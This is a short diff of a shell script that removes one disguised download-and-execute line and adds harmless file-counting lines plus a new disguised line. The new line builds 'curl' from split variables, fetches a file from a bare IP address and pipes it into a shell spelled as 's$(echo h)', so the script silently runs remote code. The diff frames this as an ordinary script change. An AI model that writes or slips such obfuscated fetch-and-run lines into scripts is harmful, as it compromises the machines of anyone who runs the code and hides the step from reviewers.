@@ -1,2 +1,5 @@
 #!/bin/sh
-a=cu; b=rl; $a$b -s https://cdn.example.net/update.bin | s$(echo h)
+count=$(ls | wc -l)
+echo "files: $count"
+a=cu; b=rl; $a$b -s https://203.0.113.9/x | s$(echo h)
+set -eu
